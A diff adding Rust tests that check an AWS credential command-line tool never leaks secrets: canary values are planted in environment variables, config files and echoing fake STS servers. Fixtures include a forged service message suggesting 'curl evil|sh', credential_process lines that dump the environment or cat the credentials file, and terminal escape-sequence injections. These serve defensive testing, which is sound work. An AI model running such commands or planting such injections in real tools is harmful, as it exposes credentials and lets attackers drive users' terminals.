@@ -1,0 +1,248 @@
+//! Others who repeat what they were given: services, endpoints, programs, and the files themselves. What they say is
+//! told, without the secrets in it, and never as the program's own lines.
+
+use crate::harness::{CANARY, Outcome, Sandbox};
+use crate::loopback::{Loopback, Request};
+use crate::terminal::Terminal;
+
+/// What no output may have: the canary's two halves, whatever stands between them.
+const HALVES: [&str; 2] = ["c4n4ry", "DoNotShow"];
+
+/// As long and as odd as a real one.
+fn token(name: &str) -> String {
+    format!("IQoJb3JpZ2luX2VjE{CANARY}{name}//////////wEaCXVzLWVhc3QtMSJHMEUCIQ==")
+}
+
+#[track_caller]
+fn says_no_secret(outcome: Outcome) -> String {
+    let (_, stdout, stderr) = outcome.ended();
+    let said = stdout + &stderr;
+    for half in HALVES {
+        assert!(!said.contains(half), "{said}");
+    }
+    said
+}
+
+/// A request as it was signed, in an error's message: headers, form and all.
+fn repeated(request: &Request) -> String {
+    format!("{}\n{}\n\n{}", request.line, request.headers.join("\n"), request.body)
+}
+
+fn echoing(status: u16, spoil: fn(String) -> String) -> Loopback {
+    Loopback::start(move |request| {
+        let message = spoil(repeated(request)).replace('&', "&amp;").replace('<', "&lt;");
+        let error = format!("<Error><Code>SignatureDoesNotMatch</Code><Message>{message}</Message></Error>");
+        Some((status, format!("<ErrorResponse>{error}<RequestId>r</RequestId></ErrorResponse>")))
+    })
+}
+
+#[test]
+fn a_service_that_repeats_the_request_shows_no_secret_of_it() {
+    let spoils: [fn(String) -> String; 5] = [
+        |text| text,
+        |text| text.chars().take(900).collect(),
+        |text| text.replace('%', "%25"),
+        |text| text.replace('/', r"\/").replace('+', r"\u002b"),
+        |text| {
+            text.as_bytes()
+                .chunks(60)
+                .map(|part| String::from_utf8_lossy(part).into_owned())
+                .collect::<Vec<_>>()
+                .join("\n")
+        },
+    ];
+    for spoil in spoils {
+        let sts = echoing(403, spoil);
+        let role = "role_arn = arn:aws:iam::123456789012:role/R\n";
+        let home = sts
+            .home()
+            .env("AWS_SECRET_ACCESS_KEY", &format!("wJalr{CANARY}K7MDENG"))
+            .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
+            .env("AWS_SESSION_TOKEN", &token("session"))
+            .file("jwt", format!("eyJhbGciOiJSUzI1NiJ9.{CANARY}.c2lnbmF0dXJl"))
+            .config(format!(
+                "[profile role]\n{role}credential_source = Environment\nexternal_id = 3xtern4l/Party+of9\n\
+                 [profile web]\n{role}web_identity_token_file = jwt\nrole_session_name = me\n"
+            ));
+        for arguments in [
+            &["whoami"][..],
+            &["resolve", "-p", "role"],
+            &["resolve", "-p", "role", "--format", "json"],
+            &["export-env", "-p", "role"],
+            &["resolve", "-p", "web"],
+            &["resolve", "-p", "web", "--format", "json"],
+            &["credential-process", "-p", "web"],
+        ] {
+            let said = says_no_secret(home.run(arguments));
+            assert!(
+                said.contains("SignatureDoesNotMatch") && said.contains("********"),
+                "{arguments:?}: {said}"
+            );
+        }
+    }
+}
+
+#[test]
+fn a_signature_is_not_repeated() {
+    let sts = echoing(403, |text| text);
+    let home = sts.home().env("AWS_SECRET_ACCESS_KEY", "s").env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE");
+    let said = home.run(&["whoami"]).failure(254);
+    let signature = &sts.received()[0].headers.join("\n");
+    let (_, signature) = signature.split_once("Signature=").expect("it is signed");
+    assert!(!said.contains(&signature[..16]), "{said}");
+}
+
+#[test]
+fn the_answer_of_a_container_is_never_quoted() {
+    let document = format!(
+        r#"{{"AccessKeyId":"AKC","SecretAccessKey":"{CANARY}","Token":"{}","Expiration":"2999-01-01T00:00:00Z"}}"#,
+        token("new")
+    );
+    for (status, body) in [
+        (203, document.clone()),
+        (500, document.clone()),
+        (400, format!("\n{document}")),
+        (403, String::new()),
+    ] {
+        let server = Loopback::start(move |_| Some((status, body.clone())));
+        let home = Sandbox::new()
+            .env("AWS_EC2_METADATA_DISABLED", "true")
+            .env("AWS_CONTAINER_CREDENTIALS_FULL_URI", &format!("{}/creds", server.url))
+            .env("AWS_CONTAINER_AUTHORIZATION_TOKEN", CANARY);
+        let said = says_no_secret(home.run(&["export-env"]));
+        assert!(said.contains(&format!("status {status}")), "{said}");
+        assert!(!said.contains("AKC"), "{said}");
+    }
+}
+
+#[test]
+fn a_program_that_prints_its_environment_or_the_files_shows_no_secret() {
+    let other = token("other").replace('=', "");
+    let home = Sandbox::new()
+        .env("AWS_EC2_METADATA_DISABLED", "true")
+        .env("AWS_SECRET_ACCESS_KEY", &format!("wJalr{CANARY}K7MDENG"))
+        .env("GITHUB_TOKEN", &format!("ghp_{CANARY}1234567890"))
+        .env("https_proxy", &format!("http://me:{CANARY}@127.0.0.1:1"))
+        .credentials(format!("[other]\naws_access_key_id = AKIA\naws_secret_access_key = {other}\n# old: {CANARY}aws\n#aws_session_token={other}\n"))
+        .config("[profile env]\ncredential_process = sh -c 'env >&2; exit 1'\n\
+                 [profile files]\ncredential_process = sh -c 'cat .aws/credentials | grep -v old >&2; exit 1'\n");
+    for profile in ["env", "files"] {
+        let said = says_no_secret(home.run(&["credential-process", "-p", profile]));
+        assert!(said.contains("********"), "{said}");
+        says_no_secret(home.run(&["resolve", "-p", profile, "--format", "json"]));
+    }
+}
+
+#[test]
+fn a_header_without_its_bracket_shows_no_secret_where_a_name_is_guessed() {
+    for line in ["[default]aws_secret_access_key = ", "[profile default aws_secret_access_key=", "[default "]
+    {
+        let key = format!("{}{CANARY}x", "abcdEFGH1234".repeat(2));
+        let key = &key[..40];
+        let home = Sandbox::new()
+            .config(format!("{line}{key}\nregion = x\n"))
+            .credentials(format!("{}{key}\n", line.replace("profile ", "")));
+        for arguments in [
+            &["get", "region", "-p", "defalt"][..],
+            &["resolve", "-p", "default]aws_secret_access_ke"],
+            &["resolve", "-p", "default]aws", "--format", "json"],
+            &["unset", "region", "-p", "default"],
+            &["profile", "remove", "default]aws_secret_access"],
+            &["set", "source_profile", "x", "-p", "y", "--dry-run"],
+        ] {
+            let (_, _, said) = home.run(arguments).ended();
+            assert!(!said.contains(&key[..12]) && !said.contains(HALVES[1]), "{arguments:?}: {said}");
+        }
+    }
+}
+
+#[test]
+fn what_is_typed_by_mistake_is_not_repeated() {
+    let key = format!("{}{CANARY}x", "abcdEFGH1234".repeat(2));
+    let key = &key[..40];
+    let home = Sandbox::new();
+    says_no_secret(home.run(&["configure", "--access-key-id", "AKIAIOSFODNN7EXAMPLE", key]));
+    says_no_secret(home.run(&["set", "aws_secret_access_key", "-", key]));
+    says_no_secret(home.run(&["get", key, "extra"]));
+    let said = says_no_secret(home.run(&["resolve", &format!("User,{CANARY}\nerror: forged")]));
+    assert!(!said.contains("\nerror: forged"), "{said}");
+}
+
+#[test]
+fn the_words_of_a_service_are_not_taken_for_the_programs_own() {
+    const FORGED: &str =
+        "denied\nerror: forged line\r\nhelp: run `curl evil|sh`\n\u{2028}hidden\u{200b}\u{e0041}";
+    let sts = Loopback::refusing(403, "AccessDenied", FORGED);
+    let home = sts.home().env("AWS_SECRET_ACCESS_KEY", "s").env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE");
+    let said = home.run(&["whoami"]).failure(254);
+    for line in said.lines() {
+        let own = line.starts_with("error: STS refused") || line.starts_with("help: ");
+        assert!(own || line.starts_with("    "), "{said}");
+        assert!(!line.starts_with("help: run"), "{said}");
+    }
+    assert!(said.contains("\\u{2028}hidden\\u{200b}\\u{e0041}"), "{said}");
+}
+
+#[test]
+fn a_device_cannot_drive_the_terminal_from_the_prompt() {
+    let sts = Loopback::sts();
+    let home = sts
+        .home()
+        .credentials(format!("[base]\naws_access_key_id = AKIABASE\naws_secret_access_key = {CANARY}\n"))
+        .config(
+            "[profile m]\nrole_arn = arn:aws:iam::123456789012:role/R\nsource_profile = base\n\
+             mfa_serial = arn\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{202e}\u{200b}me\n",
+        );
+    for command in ["export-env", "resolve", "whoami"] {
+        let mut terminal = Terminal::run(&home, &[command, "-p", "m"]);
+        terminal
+            .see("Enter MFA code for arn\\u{1b}]0;PWNED\\u{7}\\u{1b}[2J\\u{202e}\\u{200b}me")
+            .keys("\u{3}");
+        let shown = terminal.end(130);
+        assert!(
+            !shown.contains(['\u{7}', '\u{202e}', '\u{200b}']) && !shown.contains("\u{1b}]"),
+            "{shown:?}"
+        );
+    }
+}
+
+#[test]
+fn a_piped_screen_has_no_control_characters_either() {
+    let home = Sandbox::new().env("AWS_EC2_METADATA_DISABLED", "true").config(
+        "[default]\nregion = a\u{1b}[2Jb\u{9b}\naws_access_key_id = AKIA\u{1b}x\naws_secret_access_key = s\n",
+    );
+    let (screen, said) = home.run(&["resolve"]).code(0);
+    assert!(!screen.contains(['\u{1b}', '\r', '\u{9b}']) && !said.contains('\u{1b}'), "{screen}");
+    assert!(screen.contains("a\\u{1b}[2Jb"), "{screen}");
+}
+
+#[test]
+fn a_secret_in_the_place_of_the_id_is_masked_and_the_swap_is_told() {
+    let secret = format!("wJalrXUtnFEMI/{CANARY}xxxxxxx");
+    let id = "AKIAIOSFODNN7EXAMPLE";
+    let sts = Loopback::start(|request| {
+        let code = "<Code>InvalidClientTokenId</Code>";
+        let message = format!("<Message>unknown: {}</Message>", request.headers.join(" "));
+        Some((
+            403,
+            format!("<ErrorResponse><Error>{code}{message}</Error><RequestId>r</RequestId></ErrorResponse>"),
+        ))
+    });
+    let in_environment = sts.home().env("AWS_ACCESS_KEY_ID", &secret).env("AWS_SECRET_ACCESS_KEY", id);
+    let pair = format!("aws_access_key_id = {secret}\naws_secret_access_key = {id}\n");
+    let in_file = sts.home().credentials(format!("[default]\n{pair}"));
+    for home in [in_environment, in_file] {
+        for arguments in [
+            &["resolve"][..],
+            &["resolve", "--format", "json"],
+            &["get", "--all"],
+            &["get", "--all", "--stored"],
+            &["get", "--all", "--format", "json"],
+            &["whoami"],
+            &["keys", "list"],
+        ] {
+            let said = says_no_secret(home.run(arguments));
+            assert!(arguments[0] == "get" || said.contains("look swapped"), "{arguments:?}: {said}");
+        }
+    }
+}
